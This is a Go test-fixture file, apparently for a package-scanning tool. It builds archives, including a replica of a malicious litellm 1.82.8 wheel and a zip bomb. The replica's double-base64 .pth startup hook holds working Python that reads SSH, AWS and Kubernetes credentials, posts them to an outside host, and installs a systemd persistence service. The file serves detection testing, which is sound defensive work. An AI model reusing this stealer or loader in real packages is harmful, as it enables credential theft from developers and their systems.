package cli

// Builders for the end-to-end fixtures. Every fixture is inert text written
// here and packed into an archive at test time; nothing is ever executed.

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// fixedTime keeps archives byte-for-byte reproducible.
var fixedTime = time.Date(2026, 3, 24, 10, 52, 0, 0, time.UTC)

// entry is one member of an archive.
type entry struct {
	name string
	body string
	mode int64  // 0 means 0o644
	link string // symlink target (tar only)
}

func writeFile(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// zipBytes packs entries into a zip archive.
func zipBytes(t *testing.T, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: fixedTime}
		mode := e.mode
		if mode == 0 {
			mode = 0o644
		}
		h.SetMode(os.FileMode(mode))
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// tarGzBytes packs entries into a gzip-compressed tar archive.
func tarGzBytes(t *testing.T, entries []entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	gz.ModTime = fixedTime
	tw := tar.NewWriter(gz)
	for _, e := range entries {
		mode := e.mode
		if mode == 0 {
			mode = 0o644
		}
		h := &tar.Header{Name: e.name, Mode: mode, ModTime: fixedTime, Format: tar.FormatPAX}
		if e.link != "" {
			h.Typeflag = tar.TypeSymlink
			h.Linkname = e.link
			h.Mode = 0o777
		} else {
			h.Typeflag = tar.TypeReg
			h.Size = int64(len(e.body))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if e.link == "" {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// recordHash is a RECORD hash: sha256, urlsafe base64 without padding.
func recordHash(body string) string {
	sum := sha256.Sum256([]byte(body))
	return "sha256=" + base64.RawURLEncoding.EncodeToString(sum[:])
}

// wheelEntries adds the dist-info files (METADATA, WHEEL, RECORD with
// correct hashes) to the given package files.
func wheelEntries(name, version string, files []entry) []entry {
	distInfo := strings.ReplaceAll(name, "-", "_") + "-" + version + ".dist-info"
	out := append([]entry(nil), files...)
	out = append(out,
		entry{name: distInfo + "/METADATA", body: fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: test fixture\nRequires-Python: >=3.8\n\n%s\n", name, version, name)},
		entry{name: distInfo + "/WHEEL", body: "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.43.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	)
	var rec strings.Builder
	for _, e := range out {
		fmt.Fprintf(&rec, "%s,%s,%d\n", e.name, recordHash(e.body), len(e.body))
	}
	fmt.Fprintf(&rec, "%s/RECORD,,\n", distInfo)
	return append(out, entry{name: distInfo + "/RECORD", body: rec.String()})
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// stage2 is the inert second stage of the litellm replica: it names the
// credential files, the exfiltration endpoint and the persistence unit the
// real payload used (THREATS.md), but is only ever read as text.
const stage2 = `import os, json, subprocess
import requests

loot = {}
loot["ssh"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()
loot["aws"] = open(os.path.expanduser("~/.aws/credentials")).read()
loot["kube"] = open(os.path.expanduser("~/.kube/config")).read()
loot["sa"] = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
loot["env"] = dict(os.environ)
requests.post("https://models.litellm.cloud/", data=json.dumps(loot), timeout=10)
unit = os.path.expanduser("~/.config/systemd/user/sysmon.service")
os.makedirs(os.path.dirname(unit), exist_ok=True)
with open(unit, "w") as f:
    f.write("[Service]\nExecStart=/usr/bin/python3 %h/.config/sysmon/sysmon.py\n[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"])
`

// litellmPthPayload is the outer base64 of the .pth line: decoding it gives
// exec(base64.b64decode('<base64 of stage2>')), so stage 2 sits behind two
// base64 layers.
func litellmPthPayload() string {
	return b64("exec(base64.b64decode('" + b64(stage2) + "'))")
}

// litellmPthLine is line 1 of litellm_init.pth.
func litellmPthLine() string {
	return `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('` +
		litellmPthPayload() + `'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)`
}

const litellmInit = `"""litellm: call all LLM APIs using the OpenAI format."""
import threading
from typing import Optional

__version__ = "1.82.8"

api_key: Optional[str] = None
api_base: Optional[str] = None
request_timeout: float = 600
num_retries: int = 0
_lock = threading.Lock()


def completion(model: str, messages: list, **kwargs):
    """Route a chat completion to the provider named by model."""
    provider, _, name = model.partition("/")
    return {"provider": provider or "openai", "model": name or model, "messages": messages}
`

// litellm1828Wheel is a replica of litellm 1.82.8: a startup hook whose
// line 1 spawns the interpreter on a double-base64 stage 2.
func litellm1828Wheel(t *testing.T) []byte {
	return zipBytes(t, wheelEntries("litellm", "1.82.8", []entry{
		{name: "litellm/__init__.py", body: litellmInit},
		{name: "litellm_init.pth", body: litellmPthLine() + "\n"},
	}))
}

// zipBombEntry writes a zip whose single entry declares and inflates to
// size bytes of zeros. The deflate stream is assembled from one flushed
// 1 MiB chunk repeated, so building it costs little time and memory.
func zipBombBytes(t *testing.T, name string, size int64) []byte {
	t.Helper()
	const chunk = 1 << 20
	if size%chunk != 0 {
		t.Fatalf("size must be a multiple of %d", chunk)
	}
	zeros := make([]byte, chunk)
	var c bytes.Buffer
	fw, err := flate.NewWriter(&c, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(zeros)
	fw.Flush() // byte-aligned, not final: chunks can be concatenated
	var raw bytes.Buffer
	crc := uint32(0)
	for i := int64(0); i < size/chunk; i++ {
		raw.Write(c.Bytes())
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
	}
	raw.Write([]byte{0x01, 0x00, 0x00, 0xff, 0xff}) // final empty stored block

	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(&zip.FileHeader{
		Name: name, Method: zip.Deflate, Modified: fixedTime,
		CRC32: crc, CompressedSize64: uint64(raw.Len()), UncompressedSize64: uint64(size),
	})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(raw.Bytes())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}
